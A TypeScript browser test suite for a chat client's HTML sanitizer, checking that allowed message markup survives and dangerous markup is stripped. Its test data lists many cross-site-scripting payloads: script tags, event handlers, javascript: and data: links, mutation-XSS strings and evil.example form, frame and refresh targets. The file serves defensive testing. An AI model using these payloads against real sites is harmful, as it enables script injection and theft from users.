import type { Browser, Page } from "playwright-core";
import { build, type Rollup } from "vite";
import { afterAll, beforeAll, expect, it } from "vitest";

import { openBrowser } from "./person.ts";

// What is left of the HTML of messages, with the parser that reads it in earnest.

let browser: Browser;
let page: Page;
/** What ran or was asked for, none of which should have. */
const happened: string[] = [];

beforeAll(async () => {
  const entry = new URL("../src/features/room/safeHtml.ts", import.meta.url).pathname;
  const [built, opened] = await Promise.all([
    build({ configFile: false, logLevel: "error", build: { write: false, lib: { entry, formats: ["iife"], name: "cleaner" } } }) as Promise<Rollup.RollupOutput[]>,
    openBrowser(),
  ]);
  browser = opened;
  page = await browser.newPage();
  page.on("dialog", (dialog) => {
    happened.push(dialog.message());
    void dialog.dismiss();
  });
  page.on("request", (request) => happened.push(request.url()));
  await page.addScriptTag({ content: built[0]?.output[0].code ?? "" });
});

afterAll(() => browser.close());

interface Cleaner {
  safeHtml(html: string): DocumentFragment;
  safeAddress(href: string): string | undefined;
}

/** What is left of some HTML, put into the page. */
function left(html: string): Promise<string> {
  return page.evaluate((dirty) => {
    document.body.replaceChildren((globalThis as unknown as { cleaner: Cleaner }).cleaner.safeHtml(dirty));
    return document.body.innerHTML;
  }, html);
}

it.each([
  ["<b>a</b><strong>b</strong><i>c</i><em>d</em><u>e</u><s>f</s><del>g</del><code>h</code><sup>i</sup><sub>j</sub>"],
  ["<h1>a</h1><h2>b</h2><h3>c</h3><h4>d</h4><h5>e</h5><h6>f</h6><p>g</p><hr>a<br>b"],
  ["<blockquote>a</blockquote><ul><li>b</li></ul><ol start=\"3\"><li>c</li></ol><pre><code class=\"language-go\">d</code></pre>"],
  ["<table><caption>a</caption><thead><tr><th>b</th></tr></thead><tbody><tr><td>c</td></tr></tbody></table>"],
  ["<details><summary>a</summary>b</details><span data-mx-spoiler=\"\">c</span>"],
  ["<a href=\"https://example.org/?a=1\">a</a><a href=\"mailto:a@example.org\">b</a><a href=\"tel:112\">c</a><a href=\"matrix:u/anna:example.org\">d</a>"],
])("keeps what the specification allows: %s", async (html) => {
  expect(await left(html)).toBe(html);
});

it.each([
  ["a script", "a<script>alert(1)</script>b", "ab"],
  ["a script in capitals, unclosed", "a<SCRIPT SRC=//evil.example/x.js>", "a"],
  ["a style sheet", "a<style>*{display:none}</style>b", "ab"],
  ["what is drawn over the page", '<p style="position:fixed;inset:0">a</p>', "<p>a</p>"],
  ["a handler", '<b onclick="alert(1)">a</b>', "<b>a</b>"],
  ["a handler after a slash", "<b/onmouseover=alert(1)>a</b>", "<b>a</b>"],
  ["a handler of what cannot load", '<img src=x onerror="alert(1)">a', "a"],
  ["a picture, which would tell that it was read", '<img src="https://evil.example/p.gif">a', "a"],
  ["a picture of the server", '<img src="mxc://example.org/x">a', "a"],
  ["SVG", "<svg onload=alert(1)><circle></circle></svg>a", "a"],
  ["a script in SVG", "<svg><script>alert(1)</script></svg>a", "a"],
  ["a link in SVG", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>a', "a"],
  ["MathML", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>a', "a"],
  ["a frame", '<iframe src="https://evil.example"></iframe>a', "a"],
  ["a frame with its own page", '<iframe srcdoc="<script>alert(1)</script>"></iframe>a', "a"],
  ["an object", '<object data="x.swf"></object><embed src="x">a', "a"],
  ["a form", '<form action="https://evil.example"><input name="password"><button>a</button></form>', "a"],
  ["a base", '<base href="https://evil.example/">a', "a"],
  ["what refreshes", '<meta http-equiv="refresh" content="0;url=https://evil.example">a', "a"],
  ["a link to a style sheet", '<link rel="stylesheet" href="https://evil.example/x.css">a', "a"],
  ["a template", "<template><script>alert(1)</script></template>a", "a"],
  ["an id or a name, which would stand for something of the page", '<b id="app" name="x">a</b>', "<b>a</b>"],
  ["other data", '<b data-x="1" data-mx-color="#f00" aria-label="b">a</b>', "<b>a</b>"],
  ["an own element", "<x-y is=z>a</x-y>", "a"],
  ["an answer's fallback", "<mx-reply><blockquote>earlier</blockquote></mx-reply>a", "a"],
  ["a comment", "a<!-- <script>alert(1)</script> -->b", "ab"],
])("takes out %s", async (_what, html, wanted) => {
  expect(await left(html)).toBe(wanted);
});

it.each([
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " javascript:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "&#106;avascript:alert(1)",
  "\u0001javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)",
  "file:///etc/passwd",
  "blob:https://example.org/x",
  "intent://x#Intent;end",
  "/me",
  "//evil.example",
])("lets no link lead to %j", async (href) => {
  await left(`<a href="${href}">a</a>`);
  const [kept, text] = await page.evaluate(() => {
    const address = document.querySelector("a")?.getAttribute("href") ?? "";
    return [(globalThis as unknown as { cleaner: Cleaner }).cleaner.safeAddress(address), document.body.textContent] as const;
  });
  expect([kept, text]).toEqual([undefined, "a"]);
});

it.each([
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
  "<table><td><svg><desc><td><style><a title=\"</style><img src onerror=alert(1)>\">",
  "<select><template><style><a rel=\"</style></template></select><img id=x src onerror=alert(1)>\">",
  "<textarea><title></textarea><img src=x onerror=alert(1)>",
  "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<b <script>alert(1)</script>>a</b>",
])("does not change into something else when it is read twice: %s", async (html) => {
  const once = await left(html);
  for (const again of [once, await left(once)]) {
    const found = await page.evaluate((safe) => {
      document.body.innerHTML = safe;
      const elements = [...document.body.querySelectorAll("*")];
      return elements.filter((one) => one.matches("script, style, img, svg, math, iframe, form, template") || one.getAttributeNames().some((name) => name.startsWith("on"))).map((one) => one.outerHTML);
    }, again);
    expect(found).toEqual([]);
  }
});

it("survives what is nested too deep", async () => {
  expect(await left(`${"<blockquote>".repeat(5_000)}a${"</blockquote>".repeat(5_000)}`)).toContain("blockquote");
});

it("ran and loaded nothing on the way", () => {
  expect(happened).toEqual([]);
});
